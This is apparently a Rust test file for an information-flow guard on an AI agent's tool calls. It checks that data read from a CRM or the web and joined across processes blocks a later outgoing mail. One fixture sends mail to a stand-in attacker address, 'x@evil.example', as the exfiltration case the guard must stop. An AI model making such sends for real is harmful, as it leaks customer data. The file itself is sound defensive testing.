//! One key in several processes: what each has read is joined, and what was given up stays given up.

use doorward_flow::{Call, Flow, Item, Label, Outcome, Thread, Verdict};

use crate::world::{Desk, Stop, server, tree};

const READ: (&str, &str) = ("crm/read_customer", r#"{"id":7}"#);
const FETCH: (&str, &str) = ("web/fetch", r#"{"url":"https://learn.microsoft.com/q"}"#);
const SEND: (&str, &str) = ("mail/send", r#"{"to":"x@evil.example","body":"hello"}"#);

/// What a process writes down, as another reads it.
fn written(desk: &Desk) -> Flow {
    Flow::read(desk.flow.to_json().as_bytes()).unwrap()
}

// control: D-20: What two processes read is joined in whatever order, and neither passes alone.
// control-off: D-20: Two that know nothing of each other let it go.
#[test]
fn what_two_processes_read_is_joined() {
    let (mut one, mut two) = (Desk::new(), Desk::new());
    one.call(READ).unwrap();
    two.call(FETCH).unwrap();
    two.call(SEND).unwrap();
    let mut joined = (written(&one), written(&two));
    joined.0.absorb(written(&two));
    joined.1.absorb(written(&one));
    assert!(joined.0.has_read_as(&joined.1));
    for flow in [joined.0, joined.1] {
        let mut desk = Desk { flow, ..Desk::new() };
        desk.minutes(5);
        assert!(matches!(desk.call(SEND), Err(Stop::Asked(_))));
    }
}

#[test]
fn joining_again_changes_nothing() {
    let mut one = Desk::new();
    one.call(READ).unwrap();
    one.call(FETCH).unwrap();
    let before = written(&one);
    one.flow.absorb(before.clone());
    assert!(one.flow.has_read_as(&before));
    assert_eq!(written(&one), before);
}

// control: D-20: What another gave up is not held against a call any more; a call that runs here is.
#[test]
fn what_another_gave_up_is_given_up() {
    let mut here = Desk::new();
    here.call(FETCH).unwrap();
    let running = here.begin(READ, None).unwrap();
    let mut there = Desk { flow: written(&here), ..Desk::new() };
    let fallen = there.flow.reset("me", "a new topic", there.now);
    assert_eq!(fallen.label, here.flow.label());
    here.flow.take_over(written(&there));
    assert!(here.call(SEND).is_ok(), "nothing untrusted is left");
    here.flow.after(running, Outcome::Answered(Label::BOTTOM), here.now);
    here.call(FETCH).unwrap();
    assert!(matches!(here.call(SEND), Err(Stop::Asked(_))), "what ran was read after that");
}

// control: D-20: After a restart no session is left to tell apart: what was read in each counts for all.
#[test]
fn sessions_of_a_process_that_is_gone_have_ended() {
    let mut desk = Desk::new();
    desk.thread = Thread::session(&server("crm"), "s1");
    desk.call(READ).unwrap();
    desk.call(FETCH).unwrap();
    desk.thread = Thread::session(&server("crm"), "s2");
    assert!(desk.call(SEND).is_ok());
    let mut after = written(&desk);
    after.end_sessions();
    let mut desk = Desk { flow: after, thread: Thread::session(&server("crm"), "s3"), ..Desk::new() };
    desk.minutes(5);
    assert!(matches!(desk.call(SEND), Err(Stop::Asked(_))));
}

// control: AUD-04: A record names no URI: those hold personal data.
#[test]
fn a_record_names_no_uri() {
    let mut desk = Desk::new();
    let (of, arguments) = (server("web"), tree(r#"{"to":"x@evil.example"}"#));
    desk.flow.absorb(Flow::lost(&of, desk.now));
    let call = Call {
        server: &of,
        item: Item::Resource("web://people/ada@contoso.com"),
        arguments: Some(arguments.root()),
        digest: [0; 32],
        thread: None,
    };
    let judged = desk.flow.before(&call, None, &desk.labels, &desk.rules, desk.now);
    let Verdict::Block(reason) = judged.verdict else { panic!("restricted, and untrusted") };
    assert!(reason.for_person().contains("ada@contoso.com"), "{}", reason.for_person());
    assert!(!reason.for_record().contains("ada"), "{}", reason.for_record());
}
